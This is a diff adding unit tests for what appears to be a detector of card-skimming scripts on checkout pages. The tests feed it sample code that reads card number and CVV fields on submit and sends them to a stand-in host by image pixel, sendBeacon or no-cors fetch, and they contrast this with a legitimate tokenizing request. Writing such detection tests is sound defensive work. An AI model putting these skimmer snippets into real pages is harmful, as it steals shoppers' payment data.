@@ -73,3 +73,31 @@ describe('base64 beside card fields that is not theirs', () => {
     ).not.toMatch(/base64-encoded to the shop's own server/)
   })
 })
+
+describe('card values sent back to the host the script came from', () => {
+  const ctx = {
+    url: 'https://cdn.widgets-host.example/js/v2/form.js',
+    pageUrl: 'https://www.shop.example/checkout/',
+  }
+  const read = `var c = { n: document.querySelector('#cc_number').value, v: document.querySelector('#cc_cid').value }`
+  const points = (send: string): number =>
+    analyzeScript(
+      `document.addEventListener('submit', function () { ${read}; ${send} }, true)`,
+      ctx,
+    )
+      .findings.filter((f) => f.rule === 'card-field-read-and-send')
+      .reduce((n, f) => n + f.points, 0)
+  it('where no answer can be read (image, beacon, no-cors fetch), is card data leaving', () => {
+    for (const send of [
+      `new Image().src = 'https://api.widgets-host.example/p?d=' + btoa(JSON.stringify(c))`,
+      `navigator.sendBeacon('https://api.widgets-host.example/c', JSON.stringify(c))`,
+      `fetch('https://api.widgets-host.example/c', { method: 'POST', mode: 'no-cors', body: JSON.stringify(c) })`,
+    ])
+      expect(points(send), send).toBeGreaterThanOrEqual(50)
+  })
+  it('while a request whose answer it reads (a vendor tokenizing) stays low', () => {
+    const tokenize = `fetch('https://api.widgets-host.example/tokens', { method: 'POST', body: JSON.stringify(c) })
+      .then(function (r) { return r.json() }).then(function (t) { document.querySelector('#token').value = t.id })`
+    expect(points(tokenize)).toBeLessThanOrEqual(10)
+  })
+})
